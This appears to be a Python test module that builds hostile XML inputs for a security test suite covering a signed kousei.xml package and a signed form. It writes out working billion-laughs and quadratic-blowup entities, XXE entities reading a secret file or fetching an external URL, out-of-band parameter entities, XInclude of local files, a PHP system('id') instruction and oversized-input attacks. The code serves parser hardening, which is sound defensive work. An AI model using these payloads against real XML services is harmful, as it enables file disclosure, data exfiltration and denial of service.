"""Builders for the XML parser attacks (security.md §3, cases 33-46), in kousei.xml and in the form.

kousei.xml attacks are made on the real signed kousei.xml (a DOCTYPE put in front, an entity
used inside signed text), so a parser that let them through would go on to verify a real
signature. Form attacks are *signed* by the resident: the digest matches, so they reach the
form parser after verification, the way a card holder's own hostile form would.
"""

from __future__ import annotations

import base64
import os
import re

from tests.hostile.kit import Kit, rezip

_DECLARATION = b'<?xml version="1.0" encoding="UTF-8"?>\n'
_NAME = "<氏名>".encode()


def _body(document: bytes) -> bytes:
    """``document`` without its XML declaration."""
    return document[len(_DECLARATION):] if document.startswith(_DECLARATION) else document


def _root_start(body: bytes) -> int:
    """Offset of the root element's ``<`` (after comments and PIs of the prolog)."""
    found = re.search(rb"<(?![?!])", body)
    assert found, "no root element"
    return found.start()


def _root_tag(document: bytes) -> bytes:
    body = _body(document)
    start = _root_start(body) + 1
    return re.match(rb"[^\s/>]+", body[start:]).group(0)


def _with_doctype(document: bytes, subset: bytes, *, use: bytes = b"", external: bytes = b"") -> bytes:
    """``document`` with ``<!DOCTYPE root external [subset]>`` and ``use`` put into the first 氏名
    (kousei.xml) or the root's first text (the form)."""
    root = _root_tag(document)
    doctype = b"<!DOCTYPE " + root + (b" " + external if external else b"") + \
        (b" [" + subset + b"]" if subset else b"") + b">\n"
    body = _body(document)
    if use:
        at = body.find(_NAME)
        at = at + len(_NAME) if at != -1 else body.index(b">") + 1
        body = body[:at] + use + body[at:]
    return _DECLARATION + doctype + body


def _laughs() -> bytes:
    levels = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10))
    return b'<!ENTITY l0 "lol">' + levels


def _quadratic() -> tuple[bytes, bytes]:
    return b'<!ENTITY a "' + b"x" * 100_000 + b'">', b"&a;" * 20_000


def doctype_attacks(kit: Kit) -> dict[str, tuple[bytes, bytes, bytes]]:
    """name -> (internal subset, text to use, external id), shared by kousei.xml and the form."""
    quadratic_subset, quadratic_use = _quadratic()
    url = kit.external.encode()
    return {
        "dtd-internal": (b"<!ELEMENT DataRoot ANY>", b"", b""),
        "billion-laughs": (_laughs(), b"&l9;", b""),
        "quadratic-blowup": (quadratic_subset, quadratic_use, b""),
        "xxe-file": (b'<!ENTITY x SYSTEM "' + kit.secret_file.encode() + b'">', b"&x;", b""),
        "xxe-http": (b'<!ENTITY x SYSTEM "' + url + b'/xxe">', b"&x;", b""),
        "parameter-entity-oob": (b'<!ENTITY % p SYSTEM "' + url + b'/oob.dtd"> %p;', b"", b""),
        "external-dtd": (b"", b"", b'SYSTEM "' + url + b'/external.dtd"'),
        "attlist-default-id": ('<!ATTLIST 様式ID ID CDATA "構成情報">'.encode(), b"", b""),
        "entity-valued-id": (b'<!ENTITY i "\xe6\xa7\x8b\xe6\x88\x90\xe6\x83\x85\xe5\xa0\xb1">', b"", b""),
        "doctype-differential": (b"", b"", b"SYSTEM 'x\"><!--'"),
    }


def kousei_doctype(name: str):
    """kousei.xml attack ``name`` of :func:`doctype_attacks`."""
    def build(kit: Kit) -> bytes:
        subset, use, external = doctype_attacks(kit)[name]
        kousei, members = kit.parts()
        if name == "entity-valued-id":  # the ID value itself comes from an entity
            kousei = kousei.replace('ID="構成情報"'.encode(), b'ID="&i;"')
        if name == "doctype-differential":  # a CDATA section closing the "comment" another parser saw
            kousei = kousei.replace(_NAME, _NAME + b"<![CDATA[-->]]>", 1)
        return rezip(_with_doctype(kousei, subset, use=use, external=external), members)
    return build


def form_doctype(name: str):
    """The form carries attack ``name``, signed by the resident."""
    def build(kit: Kit) -> bytes:
        subset, use, external = doctype_attacks(kit)[name]
        return signed_form(kit, _with_doctype(kit.form, subset, use=use, external=external))
    return build


def signed_form(kit: Kit, form: bytes) -> bytes:
    return kit.package(form=form)


def _kousei_bytes(change):
    def build(kit: Kit) -> bytes:
        kousei, members = kit.parts()
        return rezip(change(kousei, kit), members)
    return build


def _form_bytes(change):
    return lambda kit: signed_form(kit, change(kit.form, kit))


def _nest(document: bytes, depth: int) -> bytes:
    at = document.rindex(b"</")
    return document[:at] + b"<a>" * depth + b"</a>" * depth + document[at:]


def _root_attribute(document: bytes, attribute: bytes) -> bytes:
    body = _body(document)
    start = _root_start(body) + 1
    end = body.index(b">", start)
    if body[end - 1:end] == b"/":
        end -= 1
    return _DECLARATION + body[:end] + b" " + attribute + body[end:]


def _random_text(size: int) -> bytes:
    """Base64 of random bytes: large but barely compressible, so no ratio limit stops it first."""
    return base64.b64encode(os.urandom(size * 3 // 4 + 3))[:size]


kousei_deep_nesting = _kousei_bytes(lambda d, kit: _nest(d, 100_000))
kousei_utf16 = _kousei_bytes(lambda d, kit: d.replace(b"UTF-8", b"UTF-16", 1).decode().encode("utf-16"))
kousei_shift_jis = _kousei_bytes(lambda d, kit: d.replace(b"UTF-8", b"Shift_JIS", 1).decode().encode("cp932"))
kousei_processing_instruction = _kousei_bytes(lambda d, kit: d.replace(_NAME, _NAME + b"<?php system('id'); ?>", 1))
kousei_malformed = _kousei_bytes(lambda d, kit: d[: len(d) // 2])
kousei_undeclared_entity = _kousei_bytes(lambda d, kit: d.replace(_NAME, _NAME + b"&x;", 1))

form_deep_nesting = _form_bytes(lambda d, kit: _nest(d, 100_000))
form_huge_text = _form_bytes(lambda d, kit: d.replace(b"</", b"<t>" + _random_text(10_000_001) + b"</t></", 1))
# libxml2 stops attribute values a little above 10,000,000 bytes (the text-node limit) when
# more input follows; 10.4 MB still fits the 10 MiB member limit.
form_huge_attribute = _form_bytes(lambda d, kit: _root_attribute(d, b'big="' + _random_text(10_400_000) + b'"'))
form_huge_name = _form_bytes(lambda d, kit: _root_attribute(d, b"n" * 60_000 + b'="1"'))
# An attacker would send 100,000 attributes (1.2 MB); 1,200 (~5 s here) are enough to show the cost of
# explaining a schema failure, which grows faster than n² (see the report on validation.py).
form_attribute_flood = _form_bytes(lambda d, kit: _root_attribute(
    d, b" ".join(b'a%d="%d"' % (i, i) for i in range(1_200))))
form_xinclude = _form_bytes(lambda d, kit: _root_attribute(d, b'xmlns:xi="http://www.w3.org/2001/XInclude"').replace(
    b"</", b'<xi:include href="' + kit.secret_file.encode() + b'" parse="text"/><xi:include href="'
    + kit.external.encode() + b'/xinclude"/></', 1))
form_latin1 = _form_bytes(lambda d, kit: d.replace(b"UTF-8", b"ISO-8859-1", 1))
form_invalid_utf8 = _form_bytes(lambda d, kit: d.replace(b"</", b"\xff\xfe</", 1))
form_processing_instruction = _form_bytes(lambda d, kit: d.replace(b"</", b"<?evil x?></", 1))
form_two_roots = _form_bytes(lambda d, kit: d + b"<second/>")
